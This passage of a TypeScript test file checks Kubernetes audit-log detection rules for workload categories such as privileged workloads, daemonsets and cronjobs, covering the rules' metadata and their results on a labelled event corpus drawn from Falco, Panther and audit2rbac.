    expect(r.id).toMatch(/^[a-z-]+\.[a-z-]+$/);
    expect(r.description.length).toBeGreaterThan(80);
    expect(r.attack.length).toBeGreaterThan(0);
    for (const t of r.attack) expect(t).toMatch(/^T\d{4}(\.\d{3})?$/);
    expect(r.falsePositives).not.toBe('');
    expect(r.remediation).not.toBe('');
    expect(r.interest.length).toBeGreaterThan(0);
  });

  it('has unique ids', () => {
    expect(new Set(workloadRules.map((r) => r.id)).size).toBe(workloadRules.length);
  });
});

// --- the shared corpus ---------------------------------------------------------------------------

const MY_CATEGORIES: ReadonlySet<Category> = new Set<Category>(['privileged-workload', 'daemonset', 'cronjob', 'controller', 'untrusted-image']);

interface Label {
  file: string;
  line: number;
  auditID: string;
  expect: string[];
  tolerate: string[];
}

/**
 * These lines label a plain workload created in a system namespace by a person `none` (73 and 74
 * are `ExpectedResult: true` in Panther's own rule test). The rule still reports them, at low
 * severity, below the corpus's alarm threshold; the spec rules rate what such a workload does.
 */
const SYSTEM_NAMESPACE_LINES = ['panther-analysis-eks-rule-tests.jsonl:73', 'panther-analysis-eks-rule-tests.jsonl:74', 'panther-analysis-eks-rule-tests.jsonl:78'];

describe('the shared corpus, for the workload categories', () => {
  const labels = readFileSync(join(CORPUS_DIR, 'labels.jsonl'), 'utf8')
    .split('\n')
    .filter((l) => l.trim() !== '')
    .map((l) => JSON.parse(l) as Label);
  const files = ['falco-trace-files.jsonl', 'panther-analysis-eks-rule-tests.jsonl', 'audit2rbac-demo.jsonl'] as const;
  // Matched by file and line: falco-trace-files.jsonl repeats auditIDs (lines 1/51, 21/24).
  const results = files.flatMap((file) =>
    corpusEvents(file).map((event, i) => {
      const label = labels.find((l) => l.file === file && l.line === i + 1);
      if (!label || label.auditID !== event.auditID) throw new Error(`no label for ${file}:${i + 1}`);
      const hits = workloadRules.flatMap((r) => hitsOf(r, event).map((h) => ({ ...h, category: r.category, ruleId: r.id })));
      return { key: `${file}:${i + 1}`, label, hits };
    }),
  );

  it('finds every labelled event of these categories', () => {
    const missed = results.flatMap(({ key, label, hits }) =>
      label.expect.filter((c) => MY_CATEGORIES.has(c as Category) && !hits.some((h) => h.category === c)).map((c) => `${key} ${c}`),
    );
    const expected = results.flatMap(({ label }) => label.expect.filter((c) => MY_CATEGORIES.has(c as Category)));
    expect(expected.length).toBeGreaterThanOrEqual(15);
    expect(missed).toEqual([]);
  });

  it('raises no medium-or-higher finding on lines labelled none', () => {
    const alarms = results.filter(
      ({ label, hits }) =>
        label.expect.includes('none') && hits.some((h) => severityRank(h.severity) >= severityRank('medium') && !label.tolerate.includes(h.category)),
    );
    expect(alarms.map((a) => a.key)).toEqual([]);
  });

  it('still reports workloads created in system namespaces by people, at low severity', () => {
    for (const key of SYSTEM_NAMESPACE_LINES) {
      const hits = results.find((r) => r.key === key)?.hits ?? [];
      expect(hits.filter((h) => h.ruleId === 'controller.system-namespace-workload').map((h) => h.severity)).toEqual(['low']);
    }
  });
});
